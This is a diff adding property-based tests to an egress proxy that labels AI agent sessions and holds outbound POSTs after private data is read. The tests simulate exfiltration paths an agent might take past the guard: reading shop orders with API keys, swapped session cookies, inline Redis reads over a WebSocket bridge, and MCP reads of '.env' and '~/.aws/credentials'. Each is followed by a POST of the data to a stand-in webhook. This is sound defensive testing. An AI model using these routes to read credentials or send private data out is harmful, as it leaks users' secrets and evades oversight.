@@ -5,6 +5,8 @@
 // unseen. Labels arrive with every upstream answer, whatever its status (and with 2xx answers
 // without a body: HEAD, 204).
 import http from 'node:http';
+import net from 'node:net';
+import { spawn } from 'node:child_process';
 import { HttpProxyAgent } from 'http-proxy-agent';
 import t, { type Test } from 'tap';
 import { WebSocket } from 'ws';
@@ -13,6 +15,7 @@ import { tempDir, type Teardown } from '../temp-dir.ts';
 import fc from 'fast-check';
 import { describeRequest } from '../../describe/describe.ts';
 import { mqttSignsIn, packedSignsIn, saslSignsIn, signsIn } from '../../describe/tunnel-sql.ts';
+import { inlineRedisRead } from '../../describe/tunnel-redis.ts';
 import { contentLabels, policyCopy, startSessionAirlock, startWeb, studioApi, testConfig, viaCurl, webHosts, type Web } from '../sessions/helpers.ts';
 
 /** Every host answers with the status its `s` query parameter names, and a body (the injection, the rows). */
@@ -178,6 +181,59 @@ t.test('labels arrive whatever the status of the answer', async (t) => {
   }), { numRuns: 10 });
   t.same((await decide('POST', 'https://api.github.com/repos/oss/lib/releases', { tag_name: 'v1', body: 'notes' })).labels ?? [], [], 'control: notes the agent wrote bring nothing');
 
+  // (Twenty-ninth pass) a key given under a name the exact lists did not hold: WooCommerce's REST API
+  // takes `consumer_key`/`consumer_secret` in the query (its orders: customers' names and addresses),
+  // OAuth 1.0 `oauth_token`, DeepL `auth_key`, HubSpot `hapikey`. The read came in as a web page,
+  // `untrusted` only, so the POST to the webhook that followed went out with the orders.
+  const shop = await airlock.agents.add('shop-keys');
+  const viaShop = airlock.proxyUrl('shop-keys', shop.token);
+  t.equal((await viaCurl(viaShop, 'GET', `${web.origin('ws.test')}/wp-json/wc/v3/orders?consumer_key=ck_5e1f0c2a9b&consumer_secret=cs_77a1d0e4c3&s=200`)).status, 200);
+  t.equal((await viaCurl(viaShop, 'POST', `${web.origin('hooks.test')}/send`, post, { prefer: 'respond-async' })).status, 202, 'after a read keyed by consumer_key the POST is held');
+  t.notOk(web.hits.some((h) => h.host === 'hooks.test'), 'the orders did not reach the webhook');
+  // The class: a credential's words in any case style, separator or glued, as a query parameter, a
+  // form field, a JSON member, a JSON-RPC call's params or an MCP tool call's arguments (one inside
+  // them too) make the read an authenticated one; cursors, CSRF tokens, keys that name records and
+  // switches do not (controls).
+  const credWords = fc.constantFrom(['oauth', 'token'], ['consumer', 'key'], ['consumer', 'secret'], ['auth', 'key'], ['license', 'key'], ['app', 'secret'], ['user', 'token'], ['api', 'secret'], ['oauth', 'signature'], ['write', 'key'], ['private', 'key'], ['db', 'password'], ['hapikey'], ['usertoken']);
+  const notCred = fc.constantFrom(['page', 'token'], ['next', 'page', 'token'], ['csrf', 'token'], ['sort', 'key'], ['issue', 'key'], ['project', 'key'], ['max', 'tokens'], ['idempotency', 'key'], ['continuation', 'token'], ['public', 'key'], ['key', 'id']);
+  const spell = (words: readonly string[], how: number): string => how === 0 ? words.join('_') : how === 1 ? words.join('-') : how === 2 ? words.map((w, i) => (i ? w[0]!.toUpperCase() + w.slice(1) : w)).join('')
+    : how === 3 ? words.map((w) => w[0]!.toUpperCase() + w.slice(1)).join('') : how === 4 ? words.join('_').toUpperCase() : words.join('.');
+  const placed = (name: string, value: string, where: number): [string, string, unknown] => {
+    const enc = encodeURIComponent(name);
+    if (where === 0) return ['GET', `https://ws.test/api/orders?per_page=5&${enc}=${value}`, undefined];
+    if (where === 1) return ['POST', 'https://ws.test/api/orders', `${enc}=${value}&per_page=5`];
+    if (where === 2) return ['POST', 'https://ws.test/api/orders', { per_page: 5, [name]: value }];
+    if (where === 3) return ['POST', 'https://ws.test/rpc', { jsonrpc: '2.0', id: 1, method: 'orders.list', params: { filter: { status: 'any' }, [name]: value } }];
+    return ['POST', 'https://ws.test/mcp', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'list_orders', arguments: { status: 'any', auth: { [name]: value } } } }];
+  };
+  const decideAt = (method: string, url: string, body: unknown) => airlock.engine.decide(describeRequest(
+    { method, url, headers: typeof body === 'string' ? [['content-type', 'application/x-www-form-urlencoded']] : [['content-type', 'application/json']], body: body === undefined ? Buffer.alloc(0) : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)), bodyTruncated: false },
+    { agent: { id: 'prop', labels: {} } }));
+  const keyValue = fc.stringMatching(/^[A-Za-z0-9]{8,24}$/);
+  await fc.assert(fc.asyncProperty(credWords, fc.nat(5), fc.nat(4), keyValue, async (words, how, where, v) => {
+    const name = spell(words, how);
+    const d = await decideAt(...placed(name, v, where));
+    t.ok((d.labels ?? []).includes('private'), `${name} (placement ${where}) is an authenticated read`);
+  }), { numRuns: 30 });
+  await fc.assert(fc.asyncProperty(notCred, fc.nat(5), fc.nat(2), keyValue, async (words, how, where, v) => {
+    const name = spell(words, how);
+    const d = await decideAt(...placed(name, v, where));
+    t.notOk((d.labels ?? []).includes('private'), `control: ${name} (placement ${where}) is no credential`);
+  }), { numRuns: 20 });
+  t.notOk(((await decideAt('GET', 'https://ws.test/settings?two_factor_auth=true', undefined)).labels ?? []).includes('private'), 'control: a switch named auth is no credential');
+  // A request signed with the agent's key, or carrying a token under a header the word rule did not
+  // hold: RFC 9421's `Signature`/`Signature-Input` (Mastodon's authorized fetch answers followers-only
+  // posts to a signed GET), the Cavage draft's `Signature`, WSO2's `X-JWT-Assertion`.
+  const withHeader = (name: string, value: string) => airlock.engine.decide(describeRequest(
+    { method: 'GET', url: 'https://ws.test/users/alice/outbox', headers: [[name, value]], body: Buffer.alloc(0), bodyTruncated: false }, { agent: { id: 'prop', labels: {} } }));
+  await fc.assert(fc.asyncProperty(fc.constantFrom('Signature', 'Signature-Input', 'X-JWT-Assertion', 'X-Jwt', 'X-Bearer', 'X-Passcode', 'X-Hub-Signature-256'), fc.boolean(), async (name, lower) => {
+    const d = await withHeader(lower ? name.toLowerCase() : name, 'sig1=:aGVsbG8gd29ybGQ=:');
+    t.ok((d.labels ?? []).includes('private'), `${name}: a signed or token-bearing read is authenticated`);
+  }), { numRuns: 10 });
+  for (const name of ['X-Request-Id', 'X-Correlation-Id', 'X-Signed-Url-Expires']) {
+    t.notOk(((await withHeader(name, 'abc123')).labels ?? []).includes('private'), `control: ${name}`);
+  }
+
   // A model call over a container or skill named by id (files put there earlier, by any session),
   // wherever the body names it, among other tools: both labels; a new container or the provider's own skills: none.
   const other = fc.subarray([{ type: 'function', name: 'f', parameters: { type: 'object', properties: { container: { type: 'string' } } } }, { type: 'image_generation' }]);
@@ -338,6 +394,21 @@ t.test('labels arrive whatever the status of the answer', async (t) => {
   t.equal((await viaCurl(jar, 'GET', `${web.origin('notes.test')}/page/2?s=200`, undefined, { cookie: `PHPSESSID=${handedOut}; theme=light` })).status, 200);
   t.equal((await viaCurl(jar, 'GET', `${web.origin('notes.test')}/page/3?s=200`, undefined, { cookie: '_ga=GA1.2.3; theme=dark; consent=yes' })).status, 200);
   t.equal((await viaCurl(jar, 'POST', `${web.origin('hooks.test')}/send`, post)).status, 200, 'control: after the page\'s own cookie and cookies of no login the POST goes on');
+  // (Twenty-ninth pass) The name alone vouched: the page handed out an anonymous PHPSESSID, and a
+  // login value the agent brought, sent under that name, passed as the page's own (the account's
+  // tickets came in as a page, `untrusted` only, and the POST went out). The value must be one the
+  // host handed out in this session; a session ID the host rotates (Set-Cookie again) is its own too.
+  const swap = airlock.proxyUrl('cookie-swap', (await airlock.agents.add('cookie-swap')).token);
+  const anon = await viaCurl(swap, 'GET', `${web.origin('notes.test')}/page?s=200&cookie=PHPSESSID`);
+  const anonValue = /PHPSESSID=([^;\r\n]+)/.exec(anon.headers['set-cookie'] ?? '')?.[1];
+  t.ok(anonValue, 'the page handed out an anonymous session cookie');
+  t.equal((await viaCurl(swap, 'GET', `${web.origin('notes.test')}/rest/tickets?s=200`, undefined, { cookie: 'PHPSESSID=9b2e71c0d4a84f1e8c3b5a6d7e8f9012' })).status, 200);
+  t.equal((await viaCurl(swap, 'POST', `${web.origin('hooks.test')}/send`, post, { prefer: 'respond-async' })).status, 202, 'a login value under the name the page handed out is brought: the POST is held');
+  const rotate = airlock.proxyUrl('cookie-rotate', (await airlock.agents.add('cookie-rotate')).token);
+  await viaCurl(rotate, 'GET', `${web.origin('notes.test')}/page?s=200&cookie=PHPSESSID`);
+  const rotated = /PHPSESSID=([^;\r\n]+)/.exec((await viaCurl(rotate, 'GET', `${web.origin('notes.test')}/login?s=200&cookie=PHPSESSID`)).headers['set-cookie'] ?? '')?.[1];
+  t.equal((await viaCurl(rotate, 'GET', `${web.origin('notes.test')}/page/2?s=200`, undefined, { cookie: `PHPSESSID=${rotated}` })).status, 200);
+  t.equal((await viaCurl(rotate, 'POST', `${web.origin('hooks.test')}/send`, post)).status, 200, 'control: a value the host rotated to in this session is its own');
   // The same cookie name handed out by another host of the session does not vouch for this one.
   const elsewhere = airlock.proxyUrl('cookie-elsewhere', (await airlock.agents.add('cookie-elsewhere')).token);
   await viaCurl(elsewhere, 'GET', `${web.origin('news.test')}/page?s=200&cookie=JSESSIONID`);
@@ -582,6 +653,68 @@ t.test('a WebSocket that outlives a human\'s clear brings its labels again', asy
     t.equal((await viaCurl(proxy, 'POST', `${web.origin('hooks.test')}/send`, '{"rows":"Ada 4242"}', { prefer: 'respond-async' })).status, 202, `${name}: the next POST is held`);
     t.notOk(web.hits.some((h) => h.host === 'hooks.test'), `${name}: nothing reached the webhook`);
   }
+  // (Twenty-ninth pass, left open by the twenty-eighth) An inline Redis read (`GET customer:1\r\n`,
+  // as redis-cli, telnet or `nc -C` write it) to a real Redis behind a websockify-style bridge: the
+  // stream was read as Redis only once the server's first answer showed it, so that answer (the
+  // record) came in under the upgrade's `untrusted` and the POST to the webhook went out. The line
+  // is now read as a database read before it leaves; the read goes on.
+  const redisPort = await new Promise<number>((resolve) => { const s = net.createServer().listen(0, '127.0.0.1', () => { const p = (s.address() as net.AddressInfo).port; s.close(() => resolve(p)); }); });
+  const redis = spawn('redis-server', ['--port', String(redisPort), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no', '--protected-mode', 'no'], { stdio: 'ignore' });
+  t.teardown(() => { redis.kill(); });
+  let seeded = false;
+  for (let i = 0; i < 100 && !seeded; i++) {
+    seeded = await new Promise<boolean>((resolve) => {
+      const c = net.connect(redisPort, '127.0.0.1', () => c.write('*3\r\n$3\r\nSET\r\n$10\r\ncustomer:1\r\n$8\r\nAda 4242\r\n'));
+      c.on('data', (d) => { c.destroy(); resolve(d.toString().startsWith('+OK')); });
+      c.on('error', () => resolve(false));
+    });
+    if (!seeded) await new Promise((r) => setTimeout(r, 50));
+  }
+  t.ok(seeded, 'Redis holds the record');
+  // (An uppercase `GET key` as the stream's first line is refused already: the bytes of an HTTP/0.9 request.)
+  const inlineLines = ['get customer:1\r\n', 'HGETALL customer:1\r\n', 'keys *\r\n', 'MGET customer:1 customer:2\n'];
+  for (const [i, line] of inlineLines.entries()) {
+    const who = `redis-inline-${i}`;
+    const proxy = airlock.proxyUrl(who, (await airlock.agents.add(who)).token);
+    const sock = new WebSocket(`ws://ws.test:${web.port}/tcp-bridge/${redisPort}`, { agent: new HttpProxyAgent(proxy) });
+    t.teardown(() => sock.terminate());
+    const opened = new Promise<void>((resolve, reject) => { sock.once('open', () => resolve()); sock.once('error', reject); });
+    await approveNext(`${who}'s upgrade`, who);
+    await opened;
+    const answer = new Promise<string>((r) => { sock.once('close', (code) => r(`closed ${code}`)); sock.once('message', (m: Buffer) => r(m.toString())); });
+    // Cut in two for one of them: a bridge relays a byte stream.
+    if (i === 1) { sock.send(line.slice(0, 4)); sock.send(line.slice(4)); } else sock.send(line);
+    const got = await answer;
+    t.notMatch(got, /^closed/, `${JSON.stringify(line)}: Redis answered (${JSON.stringify(got.slice(0, 20))})`);
+    sock.terminate();
+    const labelled = ((await api('GET', '/api/sessions')).body.sessions as Array<{ agent: string; labels: Record<string, unknown> }>).find((x) => x.agent === who);
+    t.same(contentLabels(labelled!.labels), ['private', 'untrusted'], `${JSON.stringify(line)}: the record is private data`);
+    t.equal((await viaCurl(proxy, 'POST', `${web.origin('hooks.test')}/send`, '{"rows":"Ada 4242"}', { prefer: 'respond-async' })).status, 202, `${JSON.stringify(line)}: the next POST is held`);
+  }
+  t.notOk(web.hits.some((h) => h.host === 'hooks.test'), 'the record did not reach the webhook');
+  // The class: inline reads × letter case × a cut anywhere in the line × its end (CRLF; LF where the name is no English word).
+  const inlineRead = fc.tuple(fc.constantFrom(['hgetall', 'customer:1'], ['lrange', 'orders', '0', '-1'], ['smembers', 'emails'], ['scan', '0'], ['type', 'customer:1'], ['zrange', 'z', '0', '-1']), fc.boolean(), fc.boolean(), fc.double({ min: 0, max: 1, noNaN: true }));
+  let propRun = 0;
+  await fc.assert(fc.asyncProperty(inlineRead, async ([args, upper, lf, at]) => {
+    const words = ['scan', 'type'].includes(args[0]!);
+    const line = `${(upper ? args.map((a, k) => (k ? a : a.toUpperCase())) : args).join(' ')}${lf && !words ? '\n' : '\r\n'}`;
+    const who = `redis-prop-${propRun++}`;
+    const proxy = airlock.proxyUrl(who, (await airlock.agents.add(who)).token);
+    const sock = new WebSocket(`ws://ws.test:${web.port}/tcp-bridge/${redisPort}`, { agent: new HttpProxyAgent(proxy) });
+    const opened = new Promise<void>((resolve, reject) => { sock.once('open', () => resolve()); sock.once('error', reject); });
+    await approveNext(`${who}'s upgrade`, who);
+    await opened;
+    const answer = new Promise<string>((r) => { sock.once('close', (code) => r(`closed ${code}`)); sock.once('message', (x: Buffer) => r(x.toString())); });
+    const cut = Math.max(1, Math.floor(line.length * at));
+    if (cut < line.length) { sock.send(line.slice(0, cut)); sock.send(line.slice(cut)); } else sock.send(line);
+    const got = await answer;
+    sock.terminate();
+    const labelled = ((await api('GET', '/api/sessions')).body.sessions as Array<{ agent: string; labels: Record<string, unknown> }>).find((x) => x.agent === who);
+    return !got.startsWith('closed') && contentLabels(labelled!.labels).includes('private');
+  }), { numRuns: 4 });
+  // Controls: chat that begins with such a word is no inline read (a bare LF after an English word, prose, a wrong arity).
+  for (const line of ['get milk\n', 'GET me a coffee please\r\n', 'keys\r\n', 'hello']) t.notOk(inlineRedisRead(Buffer.from(line.replace(/\n$/, ''))), `control: ${JSON.stringify(line)}`);
+
   // The class: any read command of either database, a Redis command cut anywhere across two
   // messages (a bridge relays a byte stream), each in a fresh session: the read brings `private`.
   const resp = (args: string[]): string => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;
@@ -703,6 +836,35 @@ t.test('a WebSocket that outlives a human\'s clear brings its labels again', asy
       return packedSignsIn(encode(nested ? { event: 'connect', payload: inner } : inner, cbor));
     },
   ), { numRuns: 40 });
+  // (Twenty-ninth pass, left open by the twenty-eighth) CBOR with indefinite lengths: Jackson's CBOR
+  // generator (a Java client) writes every object as `0xbf … 0xff`, and streaming encoders write
+  // strings in chunks (`0x7f`, definite chunks, `0xff`). Not read, so no sign-in was seen.
+  const indefinite = (v: Packed, cuts: number[]): Buffer => {
+    if (typeof v === 'number') return Buffer.from([v & 0x17]);
+    if (typeof v === 'string') {
+      const bytes = Buffer.from(v);
+      const at = cuts.length ? Math.min(bytes.length, cuts[0]! % (bytes.length + 1)) : -1;
+      const chunk = (c: Buffer): Buffer => Buffer.concat([Buffer.from(c.length < 24 ? [0x60 + c.length] : [0x78, c.length]), c]);
+      return at < 0 ? chunk(bytes) : Buffer.concat([Buffer.from([0x7f]), chunk(bytes.subarray(0, at)), chunk(bytes.subarray(at)), Buffer.from([0xff])]);
+    }
+    return Buffer.concat([Buffer.from([0xbf]), ...Object.entries(v).flatMap(([k, x], n) => [indefinite(k, cuts.slice(n % 2)), indefinite(x, cuts.slice(1))]), Buffer.from([0xff])]);
+  };
+  const jackson = await splitSocket('cbor-indefinite', [indefinite({ op: 'hello', auth: { token: jwtish } }, [])]);
+  t.equal(jackson.code, 1008, 'an indefinite-length CBOR sign-in closes the tunnel that did not hold `private`');
+  t.ok(jackson.labels.includes('private'), 'its server answers as that account');
+  fc.assert(fc.property(
+    fc.constantFrom('token', 'access_token', 'password', 'jwt', 'api_key', 'cred'), fc.boolean(), fc.nat(3), fc.array(fc.nat(60), { maxLength: 2 }),
+    (name, nested, at, cuts) => {
+      const members: Array<[string, Packed]> = [['type', 'auth'], ['id', 7], ['v', '1.0']];
+      members.splice(at % (members.length + 1), 0, [name, jwtish]);
+      const inner = Object.fromEntries(members) as Packed;
+      return packedSignsIn(indefinite(nested ? { event: 'connect', payload: inner } : inner, cuts));
+    },
+  ), { numRuns: 30 });
+  for (const [what, v] of [['a subscription', { type: 'subscribe', channel: 'prices' }], ['a short token', { token: 'abc' }], ['a cursor', { cursor: 'c2lnbmF0dXJlMTIz' }]] as const) {
+    t.notOk(packedSignsIn(indefinite(v as Packed, [3])), `control: ${what} (indefinite)`);
+  }
+  t.notOk(packedSignsIn(Buffer.from([0xbf, 0x65, ...Buffer.from('token'), 0x7f, 0x68, ...Buffer.from('eyJhbGci')])), 'control: an unfinished indefinite string is no sign-in');
   for (const [what, v] of [['a subscription', { type: 'subscribe', channel: 'prices' }], ['a short token', { token: 'abc' }], ['a cursor', { cursor: 'c2lnbmF0dXJlMTIz' }], ['a number', { password: 7 }]] as const) {
     t.notOk(packedSignsIn(encode(v as Packed, false)) || packedSignsIn(encode(v as Packed, true)), `control: ${what}`);
   }
@@ -1025,6 +1187,30 @@ t.test('a WebSocket whose own answer completes the trifecta is decided as the tr
     t.ok((await mcpDecision(args)).labels?.includes('private'), `${where} ${name}: the tool answers as the account`);
   }), { numRuns: 20 });
   t.notOk((await mcpDecision({ query: 'token limits', page: 2 })).labels?.includes('private'), 'control: a call without a key is a page\'s answer');
+  // (Twenty-ninth pass) An MCP read of your stores through the server: a resource read of a file by
+  // URI (`resources/read file:///…/.env`, which mcp.read lets through) and SQL in a read-only tool's
+  // arguments came in under the server's `untrusted` alone, and the next POST carried them out.
+  const fsAgent = airlock.proxyUrl('mcp-files', (await airlock.agents.add('mcp-files')).token);
+  const read = (uri: string) => JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'resources/read', params: { uri } });
+  t.equal((await viaCurl(fsAgent, 'POST', `${web.origin('mcp.test')}/mcp`, read('file:///home/dev/app/.env'))).status, 200, 'the resource read is answered');
+  t.equal((await viaCurl(fsAgent, 'POST', `${web.origin('hooks.test')}/send`, '{"env":"DB_PASSWORD=…"}')).status, 403, 'the POST after a file read through MCP is refused (the trifecta)');
+  t.notOk(web.hits.some((h) => h.host === 'hooks.test'), 'nothing reached the webhook');
+  const mcpAt = (body: string) => airlock.engine.decide(describeRequest({ method: 'POST', url: 'http://mcp.test/mcp', headers: [['content-type', 'application/json']], body: Buffer.from(body), bodyTruncated: false }, { agent: { id: 'prop', labels: {} } }));
+  await fc.assert(fc.asyncProperty(fc.constantFrom('file:///home/dev/.aws/credentials', 'FILE:///etc/app.yaml', 'postgres://db/customers', 'postgresql://db/public/users', 'mysql://db/shop/orders', 'sqlite:///data/app.db', 'mongodb://db/shop/customers', 'redis://cache/session:1', 's3://acme-private/export.csv'), async (uri) => {
+    t.ok((await mcpAt(read(uri))).labels?.includes('private'), `${uri}: a resource read of a store is your data`);
+  }), { numRuns: 12 });
+  await fc.assert(fc.asyncProperty(fc.constantFrom('sql', 'query', 'statement'), fc.constantFrom('SELECT email, card FROM customers', 'select * from orders where id = 7', 'WITH t AS (SELECT 1) SELECT * FROM t'), fc.boolean(), async (name, sql, nested) => {
+    const args = nested ? { input: { [name]: sql } } : { [name]: sql };
+    t.ok((await mcpAt(call(args))).labels?.includes('private'), `${name}: ${sql}: the rows are your data`);
+  }), { numRuns: 12 });
+  // A tool that reads files by path (the reference filesystem server's tools), among other arguments.
+  const tool = (name: string, args: unknown) => JSON.stringify({ jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name, arguments: args } });
+  await fc.assert(fc.asyncProperty(fc.constantFrom('read_file', 'read_text_file', 'list_directory', 'directory_tree', 'open_document'), fc.constantFrom<[string, unknown]>(['path', '/home/dev/app/.env'], ['path', 'src/config.ts'], ['paths', ['a.txt', 'b.txt']], ['file_path', '~/notes.md'], ['filename', 'report.csv'], ['Path', 'C:\\Users\\dev\\secrets.txt']), fc.boolean(), async (name, [key, value], more) => {
+    t.ok((await mcpAt(tool(name, { ...(more ? { head: 20 } : {}), [key]: value }))).labels?.includes('private'), `${name} {${key}}: the file is your data`);
+  }), { numRuns: 12 });
+  for (const [what, body] of [['a docs resource', read('docs://guide/intro')], ['an https resource', read('ui://widget/1')], ['a search phrase', call({ query: 'open tickets about login' })], ['a tool without a path', tool('get_weather', { city: 'Oslo' })]] as const) {
+    t.notOk((await mcpAt(body)).labels?.includes('private'), `control: ${what}`);
+  }
 });
 
 // The same for an upload: decided in a session that had read private data, to a page that answers
